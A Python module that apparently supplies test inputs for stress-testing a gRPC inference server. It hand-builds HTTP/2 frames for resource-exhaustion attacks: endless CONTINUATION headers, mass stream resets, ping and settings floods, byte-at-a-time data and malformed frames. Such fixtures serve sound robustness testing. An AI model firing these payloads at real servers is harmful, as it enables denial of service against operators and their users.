"""Frames of HTTP/2 without an end, which are much work for a server of gRPC, or much memory.

Source: RFC 9113 (frames), RFC 7541 (HPACK; literals without indexing).
"""

from typing import Final

_DATA, _HEADERS, _PRIORITY, _RESET, _SETTINGS, _PING, _WINDOW, _CONTINUATION = (
    0,
    1,
    2,
    3,
    4,
    6,
    8,
    9,
)
_END_STREAM, _END_HEADERS = 1, 4
_PATH: Final = b"/inference.GRPCInferenceService/ModelInfer"


def _frame(kind: int, payload: bytes = b"", *, flags: int = 0, stream: int = 1) -> bytes:
    return (
        len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload
    )


def _literal(name: bytes, value: bytes) -> bytes:
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


_CALL: Final = b"".join(
    [
        b"\x83\x86\x04" + bytes([len(_PATH)]) + _PATH,  # POST, http, the path
        _literal(b":authority", b"a"),
        _literal(b"content-type", b"application/grpc"),
        _literal(b"te", b"trailers"),
    ]
)
_BEGIN: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(_SETTINGS, stream=0)
_BEGUN: Final = _BEGIN + _frame(_HEADERS, _CALL, flags=_END_HEADERS)
_STREAMS: Final = range(1, 20_001, 2)
_MESSAGE: Final = b"\0" + (60_000_000).to_bytes(4, "big")  # the prefix of a long one

# What begins a connection, and what follows without end. Where nothing follows, the next connection
# does.
KINDS: Final[dict[str, tuple[bytes, bytes]]] = {
    "gRPC: metadata": (
        _BEGIN + _frame(_HEADERS, _CALL),
        _frame(_CONTINUATION, _literal(b"a", b"b") * 2000),
    ),
    "gRPC: metadata in tiny frames": (
        _BEGIN + _frame(_HEADERS, _CALL),
        _frame(_CONTINUATION, _literal(b"a", b"b")),
    ),
    "gRPC: empty frames of metadata": (_BEGIN + _frame(_HEADERS, _CALL), _frame(_CONTINUATION)),
    "gRPC: bytes of data": (_BEGUN + _frame(_DATA, _MESSAGE), _frame(_DATA, b"a")),
    "gRPC: empty frames of data": (_BEGUN, _frame(_DATA)),
    "gRPC: calls that are reset": (
        _BEGIN
        + b"".join(
            _frame(_HEADERS, _CALL, flags=_END_HEADERS, stream=stream)
            + _frame(_RESET, bytes(4), stream=stream)
            for stream in _STREAMS
        ),
        b"",
    ),
    "gRPC: empty calls": (
        _BEGIN
        + b"".join(
            _frame(_HEADERS, _CALL, flags=_END_HEADERS | _END_STREAM, stream=stream)
            for stream in _STREAMS
        ),
        b"",
    ),
    "gRPC: pings": (_BEGIN, _frame(_PING, bytes(8), stream=0)),
    "gRPC: settings": (_BEGIN, _frame(_SETTINGS, b"\0\4\0\0\xff\xff", stream=0)),
    "gRPC: priorities": (_BEGIN, _frame(_PRIORITY, bytes(5), stream=3)),
    "gRPC: windows": (_BEGUN, _frame(_WINDOW, b"\0\0\0\1")),
    "gRPC: frames of no kind": (_BEGIN, _frame(200, b"a", stream=0)),
    "gRPC: no HTTP/2": (b"", b"a"),
    "gRPC: connections": (_BEGIN, b""),
}
